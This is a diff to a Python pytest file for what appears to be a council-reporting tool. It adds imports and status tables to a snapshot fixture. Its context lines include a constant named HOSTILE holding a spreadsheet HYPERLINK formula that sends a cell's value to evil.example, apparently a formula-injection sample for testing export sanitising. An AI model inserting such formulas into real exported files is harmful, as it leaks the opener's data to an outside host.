@@ -8,6 +8,9 @@ from typing import Any
 
 import pytest
 
+from goldenthread.domain.schemes import Scheme
+from goldenthread.reports.statuses import status_tables
+
 MONTHS = ["Apr-19", "May-19", "Jun-19", "Jul-19", "Aug-19", "Sep-19"]
 MONTHS += ["Oct-19", "Nov-19", "Dec-19", "Jan-20", "Feb-20", "Mar-20"]
 HOSTILE = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click me")'
@@ -90,6 +93,9 @@ def make_snapshot() -> dict[str, Any]:
         },
         "council": None,
         "exception_rule": "amber-red",
+        # the statuses the figures' codes stand for (reports.statuses), as a pack
+        # built since issue 17 keeps them
+        **status_tables(Scheme.RAG, [Scheme.RAG]),
         "organisations": [
             {"code": "LBH", "name": "London Borough of Havering", "kind": "council"},
             {"code": "LBN", "name": "London Borough of Newham", "kind": "council"},
